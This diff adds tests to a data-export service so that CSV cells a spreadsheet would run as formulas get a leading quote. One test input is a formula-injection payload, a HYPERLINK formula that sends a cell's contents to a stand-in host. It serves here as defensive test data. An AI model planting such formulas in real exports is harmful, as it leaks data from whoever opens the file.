@@ -13,6 +13,8 @@ from typing import Any
 import orjson
 import pyarrow.parquet as pq
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from services.exports import InvertedWindow, Pseudonyms, Shapers, columns, encoder, export_window
 from services.exports.datasets import COLUMNS, Column, days_between, hours_between
@@ -211,3 +213,32 @@ def test_parquet_is_typed_and_written_in_row_groups_as_it_goes() -> None:
     assert rows[0]["data"] == '{"a": 1}'
     assert rows[1]["data"] == '{"b":[1,2]}'
     assert rows[0]["at"] == NOW
+
+
+# CSV injection (OWASP): a spreadsheet runs a cell that starts with one of these as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+SUM(1,2)", "-2+3", "@SUM(A1)",
+     "\t=1+1", "\r=1+1", "-"],
+)  # fmt: skip
+def test_csv_text_a_spreadsheet_would_run_is_prefixed_with_a_quote(text: str) -> None:
+    out = encoder("csv", COLS_JSON)
+    content = out.start() + out.encode([(text, 1, True, None, None)]) + out.finish()
+    back = list(csv.reader(io.StringIO(content.decode(), newline="")))
+    assert back[1][0] == "'" + text
+
+
+@given(st.text(max_size=30), st.integers(min_value=-(10**9), max_value=10**9))
+def test_csv_neutralises_every_text_cell_and_leaves_numbers_alone(text: str, n: int) -> None:
+    cols = (Column("name", "str"), Column("n", "int"), Column("x", "float"))
+    out = encoder("csv", cols)
+    content = out.start() + out.encode([(text, n, -1.5)]) + out.finish()
+    (row,) = list(csv.reader(io.StringIO(content.decode(), newline="")))[1:]
+    if text.startswith(FORMULA_STARTS):
+        assert row[0] == "'" + text
+    else:
+        assert row[0] == text
+    assert row[1:] == [str(n), "-1.5"]  # a negative number is a number, not a formula
